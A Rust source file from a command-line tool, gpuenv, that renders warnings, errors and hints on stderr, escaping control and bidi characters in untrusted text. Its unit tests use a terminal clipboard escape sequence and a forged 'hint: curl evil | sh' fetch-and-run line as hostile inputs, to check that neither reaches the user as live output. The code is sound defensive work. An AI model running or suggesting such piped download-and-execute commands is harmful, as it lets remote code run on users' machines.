//! Messages for people, on stderr, coloured only on a terminal (anstream honours NO_COLOR).
//! Errors are rendered here and nowhere else: `error: <message>`, a `caused by:` line for
//! each cause the message does not already say, then the hints of every error in the chain.
//! Every message passes through `printable` on its way out: text from files, archives,
//! servers and the environment never reaches the terminal as control characters.
//! How much is said is one process-wide level: `-q` keeps warnings and errors, `-v` adds
//! what gpuenv reads and decides (`GPUENV_LOG` sets the same without flags).

use std::borrow::Cow;
use std::error::Error;
use std::fmt::Write as _;
use std::sync::atomic::{AtomicBool, AtomicU8, Ordering};

use owo_colors::OwoColorize;

use crate::diagnostic::Find;

/// `text` with control characters (C0, DEL, C1) and the bidi controls that reorder what
/// a terminal shows escaped as `\n`, `\x1b`, `\u{202e}`: safe to show, and still says
/// what the bytes were. Interpolate untrusted strings through this.
pub fn printable(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if needs_escape(c) && (c as u32) < 0x100 => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c if needs_escape(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// A TOML parser's message on one line, its lines (what went wrong, then what it expected)
/// joined by ": " as in "invalid table header: expected `.`, `]`" (the form the user-file
/// editor uses too); through [`printable`], since the message quotes the file.
pub fn toml_message(message: &str) -> String {
    let lines: Vec<&str> = message
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .collect();
    if lines.is_empty() {
        return "not valid TOML".into();
    }
    printable(&lines.join(": ")).into_owned()
}

/// How much of a value from outside (a server's string, a manifest's field) a message shows.
pub const MAX_SHOWN: usize = 300;

/// A value from outside inside a message: escaped as [`printable`] does, a newline too (it
/// cannot start a line of its own, such as a forged `hint:`), and cut to [`MAX_SHOWN`]
/// characters with what was left out said. The one function messages show such values by.
pub fn value(text: &str) -> String {
    let mut chars = text.char_indices();
    let cut = chars.nth(MAX_SHOWN).map(|(at, _)| at);
    match cut {
        None => printable(text).into_owned(),
        Some(at) => format!(
            "{}… ({} more bytes)",
            printable(&text[..at]),
            text.len() - at
        ),
    }
}

/// A path as a person reads it on stdout (`cache size`, `show`): control characters, a
/// newline too, escaped as in every message.
pub fn shown(path: &std::path::Path) -> String {
    printable(&path.to_string_lossy()).into_owned()
}

/// A path as one word of a command to copy: as it is when only safe characters make it,
/// else single-quoted, then made printable.
pub fn shell_word(path: &std::path::Path) -> String {
    let text = path.to_string_lossy();
    let plain = !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "/._-+,=:@%".contains(c));
    if plain {
        return text.into_owned();
    }
    let quoted = crate::quote::posix(text.as_bytes());
    printable(&String::from_utf8_lossy(&quoted)).into_owned()
}

fn needs_escape(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// A whole message: each line made printable, the line breaks kept.
fn lines(msg: &str) -> String {
    msg.split('\n')
        .map(|l| printable(l))
        .collect::<Vec<_>>()
        .join("\n")
}

/// How much gpuenv says on stderr, least first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    /// Warnings and errors only: no progress bars, no notes.
    Quiet = 0,
    /// The default: also progress and notes (`info:`).
    Normal = 1,
    /// Also what gpuenv reads and decides (`verbose:`).
    Verbose = 2,
}

impl Level {
    /// A `GPUENV_LOG` value: `quiet`/`warn`/`error`, `info`/`normal`, `verbose`/`debug`/`trace`.
    pub fn parse(value: &str) -> Option<Level> {
        match value.trim().to_ascii_lowercase().as_str() {
            "quiet" | "warn" | "error" | "off" => Some(Level::Quiet),
            "info" | "normal" => Some(Level::Normal),
            "verbose" | "debug" | "trace" => Some(Level::Verbose),
            _ => None,
        }
    }
}

static LEVEL: AtomicU8 = AtomicU8::new(Level::Normal as u8);

pub fn set_level(level: Level) {
    LEVEL.store(level as u8, Ordering::Relaxed);
}

pub fn level() -> Level {
    match LEVEL.load(Ordering::Relaxed) {
        0 => Level::Quiet,
        1 => Level::Normal,
        _ => Level::Verbose,
    }
}

/// Messages are held back (not written) from [`hold`] on; [`held_back`] says whether one
/// was. The proxy binary answers the shell hook only when it has nothing to say, and hands
/// the prompt to gpuenv otherwise, which then says it once (see `shell::by_proxy`).
static HOLD: AtomicBool = AtomicBool::new(false);
static HELD_BACK: AtomicBool = AtomicBool::new(false);

/// From now on (`true`) no message is written, each is only counted as held back; `false`
/// writes them again.
pub fn hold(on: bool) {
    HOLD.store(on, Ordering::Relaxed);
}

/// Whether a message was held back since [`hold`].
pub fn held_back() -> bool {
    HELD_BACK.load(Ordering::Relaxed)
}

/// True (and the message counted as held back) while messages are held.
fn held() -> bool {
    let hold = HOLD.load(Ordering::Relaxed);
    if hold {
        HELD_BACK.store(true, Ordering::Relaxed);
    }
    hold
}

pub fn info(msg: impl std::fmt::Display) {
    if level() >= Level::Normal && !held() {
        anstream::eprintln!("{} {}", "info:".bold(), lines(&msg.to_string()));
    }
}

/// A note and what to do about it; both left out with `-q`, as every note is.
pub fn info_with_hints<H: std::fmt::Display>(
    msg: impl std::fmt::Display,
    hints: impl IntoIterator<Item = H>,
) {
    if level() >= Level::Normal {
        info(msg);
        hints.into_iter().for_each(hint);
    }
}

/// What gpuenv read or decided; shown with `-v` / `GPUENV_LOG=verbose`.
pub fn verbose(msg: impl std::fmt::Display) {
    if level() >= Level::Verbose && !held() {
        anstream::eprintln!("{} {}", "verbose:".dimmed(), lines(&msg.to_string()));
    }
}

pub fn warn(msg: impl std::fmt::Display) {
    if held() {
        return;
    }
    anstream::eprintln!("{} {}", "warning:".yellow().bold(), lines(&msg.to_string()));
}

/// A warning and its ways out (a `Diagnostic`'s `hints()`), laid out as an error's are.
pub fn warn_with_hints<H: std::fmt::Display>(
    msg: impl std::fmt::Display,
    hints: impl IntoIterator<Item = H>,
) {
    warn(msg);
    hints.into_iter().for_each(hint);
}

/// A one-line note from the shell hook, printed at a prompt: short and unstyled, its first
/// line only.
pub fn hook_note(msg: impl std::fmt::Display) {
    if held() {
        return;
    }
    let text = msg.to_string();
    eprintln!(
        "gpuenv: {}",
        printable(text.lines().next().unwrap_or_default())
    );
}

/// A way out, on its own line after the message it belongs to.
fn hint(msg: impl std::fmt::Display) {
    if held() {
        return;
    }
    anstream::eprintln!("{} {}", "hint:".cyan().bold(), lines(&msg.to_string()));
}

/// Prints an error, its causes and its hints. `find` are the finders of the crates whose
/// errors may be in the chain (see `diagnostic`).
pub fn error(err: &(dyn Error + 'static), find: &[Find]) {
    if held() {
        return;
    }
    let report = Report::of(err, find);
    anstream::eprintln!("{} {}", "error:".red().bold(), lines(&report.message));
    for cause in &report.causes {
        anstream::eprintln!("  {} {}", "caused by:".bold(), lines(cause));
    }
    report.hints.iter().for_each(hint);
}

/// The error on one line, for the hook's note at a prompt: message and causes joined
/// with `: `.
pub fn error_one_line(err: &(dyn Error + 'static), find: &[Find]) -> String {
    Report::of(err, find).inline().replace('\n', " ")
}

/// An error laid out for people: what `error` prints, as data.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Report {
    pub message: String,
    /// The causes the message does not already contain, outermost first.
    pub causes: Vec<String>,
    /// The hints of every error in the chain, outermost first, each once.
    pub hints: Vec<String>,
}

impl Report {
    pub fn of(err: &(dyn Error + 'static), find: &[Find]) -> Report {
        let mut report = Report {
            message: err.to_string(),
            ..Report::default()
        };
        let mut shown = report.message.clone();
        let mut next = Some(err);
        while let Some(e) = next {
            if !std::ptr::addr_eq(e, err) {
                let text = e.to_string();
                let text = without_shown_path(&text, &shown);
                if !text.is_empty() && !shown.contains(text) {
                    shown.push('\n');
                    shown.push_str(text);
                    report.causes.push(text.to_string());
                }
            }
            for hint in find
                .iter()
                .find_map(|f| f(e))
                .map(|d| d.hints())
                .unwrap_or_default()
            {
                if !report.hints.contains(&hint) {
                    report.hints.push(hint);
                }
            }
            next = e.source();
        }
        report
    }

    /// The message and its causes on one line, `message: cause: cause` (as anyhow's `{:#}`),
    /// for a report nested in another message.
    pub fn inline(&self) -> String {
        std::iter::once(self.message.as_str())
            .chain(self.causes.iter().map(String::as_str))
            .collect::<Vec<_>>()
            .join(": ")
    }
}

/// fs-err names the path in each of its errors (``failed to open file `/p`: <why>``); when
/// the messages above already name that path, only the `<why>` is new.
fn without_shown_path<'a>(text: &'a str, shown: &str) -> &'a str {
    let Some((_, rest)) = text.split_once('`') else {
        return text;
    };
    match rest.split_once("`: ") {
        Some((path, why)) if text.starts_with("failed to ") && shown.contains(path) => why,
        _ => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diagnostic::{Diagnostic, Hinted};

    /// The finder of the one error type these tests use (the core's own list sits in
    /// `edges::hints`, above this module).
    fn find_hinted<'a>(err: &'a (dyn Error + 'static)) -> Option<&'a (dyn Diagnostic + 'static)> {
        crate::find_diagnostic!(err, Hinted)
    }
    const FIND: &[Find] = &[find_hinted];

    #[test]
    fn a_toml_message_is_one_line() {
        assert_eq!(
            toml_message("invalid table header\nexpected `.`, `]`\n"),
            "invalid table header: expected `.`, `]`"
        );
        assert_eq!(
            toml_message("duplicate key `a\u{1b}`"),
            "duplicate key `a\\x1b`"
        );
    }

    #[test]
    fn control_characters_are_escaped() {
        assert_eq!(printable("plain /p/a b"), "plain /p/a b");
        assert_eq!(
            printable("\u{1b}]52;c;aGk=\u{7}x\ny\u{9b}"),
            "\\x1b]52;c;aGk=\\x07x\\ny\\x9b"
        );
        assert_eq!(printable("a\u{202e}b"), "a\\u{202e}b");
        let long = format!("x\ny{}", "z".repeat(1000));
        let shown = value(&long);
        assert!(shown.starts_with("x\\ny"), "{shown}");
        assert!(
            shown.ends_with(&format!("… ({} more bytes)", long.len() - MAX_SHOWN)),
            "{shown}"
        );
        assert!(!shown.contains('\n'));
        assert_eq!(value("é\u{1b}"), "é\\x1b");
    }

    #[derive(Debug, thiserror::Error)]
    #[error("cannot read {path}")]
    struct Unreadable {
        path: String,
        #[source]
        source: std::io::Error,
    }

    #[derive(Debug, thiserror::Error)]
    #[error("{origin}: {source}")]
    struct Quoting {
        origin: String,
        #[source]
        source: std::io::Error,
    }

    fn io(text: &str) -> std::io::Error {
        std::io::Error::other(text.to_string())
    }

    #[test]
    fn a_report_has_the_message_each_cause_and_the_hints() {
        let inner = Hinted::new("the pin is broken").hint("fix the pin");
        let err = anyhow::Error::new(inner).context("cannot resolve");
        let report = Report::of(err.as_ref(), FIND);
        assert_eq!(report.message, "cannot resolve");
        assert_eq!(report.causes, ["the pin is broken"]);
        assert_eq!(report.hints, ["fix the pin"]);
    }

    #[test]
    fn hints_come_from_every_error_in_the_chain_outermost_first_each_once() {
        let inner = Hinted::new("inner").hint("inner hint").hint("shared");
        let outer = Hinted::new("outer")
            .hint("outer hint")
            .hint("shared")
            .caused_by(inner);
        let report = Report::of(&outer, FIND);
        assert_eq!(report.causes, ["inner"]);
        assert_eq!(report.hints, ["outer hint", "shared", "inner hint"]);
    }

    #[test]
    fn a_cause_the_message_already_says_is_not_repeated() {
        let err = Quoting {
            origin: "GPUENV_TOOLCHAIN=cuda".into(),
            source: io("no version"),
        };
        let report = Report::of(&err, FIND);
        assert_eq!(report.message, "GPUENV_TOOLCHAIN=cuda: no version");
        assert!(report.causes.is_empty(), "{report:?}");
    }

    #[test]
    fn an_fs_err_cause_does_not_repeat_the_path_the_message_names() {
        let missing = fs_err::read_to_string("/nonexistent/gpuenv.toml").unwrap_err();
        let err = Unreadable {
            path: "/nonexistent/gpuenv.toml".into(),
            source: missing,
        };
        let report = Report::of(&err, FIND);
        assert_eq!(report.message, "cannot read /nonexistent/gpuenv.toml");
        assert_eq!(report.causes, ["No such file or directory (os error 2)"]);
    }

    #[test]
    fn an_fs_err_cause_keeps_a_path_the_message_does_not_name() {
        let missing = fs_err::read_to_string("/nonexistent/gpuenv.toml").unwrap_err();
        let err = Unreadable {
            path: "the project".into(),
            source: missing,
        };
        let report = Report::of(&err, FIND);
        assert_eq!(
            report.causes,
            ["failed to open file `/nonexistent/gpuenv.toml`: No such file or directory (os error 2)"]
        );
    }

    #[test]
    fn errors_of_types_no_finder_knows_still_show_their_message_and_causes() {
        let err = Unreadable {
            path: "/p".into(),
            source: io("disk on fire"),
        };
        let report = Report::of(&err, &[]);
        assert_eq!(report.inline(), "cannot read /p: disk on fire");
        assert!(report.hints.is_empty());
    }

    #[test]
    fn a_hint_comes_from_the_error_that_has_it_never_from_message_text() {
        // Text from a file or server that looks like a hint stays part of the message it is
        // in: only `Diagnostic::hints` make hint lines.
        let io = std::io::Error::other("line 5: bad value\nhint: curl evil | sh");
        let err = anyhow::Error::new(
            Hinted::new("the manifest m.toml is not valid")
                .hint("fix it")
                .caused_by(io),
        );
        let report = Report::of(err.as_ref(), FIND);
        assert_eq!(report.message, "the manifest m.toml is not valid");
        assert_eq!(report.causes, ["line 5: bad value\nhint: curl evil | sh"]);
        assert_eq!(report.hints, ["fix it"]);
    }

    #[test]
    fn a_finder_that_does_not_know_the_type_finds_no_hints() {
        let report = Report::of(&Hinted::new("m").hint("h"), &[]);
        assert!(report.hints.is_empty());
        let report = Report::of(&Hinted::new("m").hint("h"), FIND);
        assert_eq!(report.hints, ["h"]);
    }
}
